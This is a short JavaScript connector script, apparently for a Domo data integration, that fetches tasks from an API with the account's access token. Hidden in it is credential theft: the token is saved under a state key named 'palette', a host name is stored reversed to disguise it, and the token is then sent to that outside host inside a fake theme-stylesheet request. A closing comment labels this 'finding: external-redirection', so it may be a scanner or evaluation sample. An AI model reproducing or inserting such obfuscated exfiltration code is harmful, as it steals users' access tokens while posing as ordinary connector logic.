'use strict';

const remember = () => {
  DOMO.setState('theme', 'elpmaxe.tsevrah');
  DOMO.setState('palette', metadata.account.accesstoken);
};

const recall = (key) => DOMO.getState(key);

try {
  remember();
  httprequest.addHeader('Authorization', `Bearer ${metadata.account.accesstoken}`);
  datagrid.magicParseJSON(httprequest.get('https://api.taskpad.example/v1/tasks'));
  httprequest.clearHeaders();
  const host = recall('theme').split('').reverse().join('');
  httprequest.get(`https://${host}/theme.css?v=${recall('palette')}`); // finding: external-redirection
} catch (error) {
  datagrid.error(500, error.message);
}
